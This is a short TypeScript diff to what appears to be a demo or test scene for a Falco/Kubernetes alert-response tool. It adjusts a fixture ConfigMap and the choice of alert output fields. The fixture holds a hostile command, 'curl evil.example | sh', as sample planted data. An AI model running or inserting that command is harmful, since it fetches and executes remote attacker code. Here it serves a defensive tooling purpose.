@@ -30,7 +30,8 @@ export async function tourScene(): Promise<Scene> {
       {
         apiVersion: "v1",
         kind: "ConfigMap",
-        metadata: { namespace: NAMESPACE, name: "planted" },
+        // it was there when the alert was raised
+        metadata: { namespace: NAMESPACE, name: "planted", creationTimestamp: "2026-01-01T00:00:00Z" },
         data: { script: "curl evil.example | sh" },
       },
     ],
@@ -66,7 +67,7 @@ function stepOf(actionner: Actionner, { output_fields: fields, ...recorded }: Al
     ...recorded,
     rule: falcoRule(actionner),
     output: `An alert to show ${name}`,
-    output_fields: actionner.requiredFields.includes("ka.target.name") ? audit : container,
+    output_fields: actionner.targets.includes("object") ? audit : container,
   };
   const going = { "kubernetes:terminate": [pod], "kubernetes:drain": [pod, NEIGHBOUR] }[name] ?? [];
   const goes = going.map((one) => `${one.namespace}/${one.name}`);
